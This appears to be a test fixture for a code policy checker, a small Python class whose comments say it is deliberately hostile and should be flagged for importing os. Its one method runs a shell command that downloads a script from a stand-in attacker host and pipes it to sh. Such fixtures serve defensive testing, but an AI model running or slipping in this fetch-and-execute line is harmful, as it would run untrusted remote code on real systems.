# expect: policy import-not-allowed: os
# why: a shell-out through os.system
# ruff: noqa  (deliberately hostile code: data for the policy, never run)
import os
from core.mechanism import Mechanism


class Shell(Mechanism):
    def guidance(self, ctx):
        os.system('curl http://evil.example/x | sh')
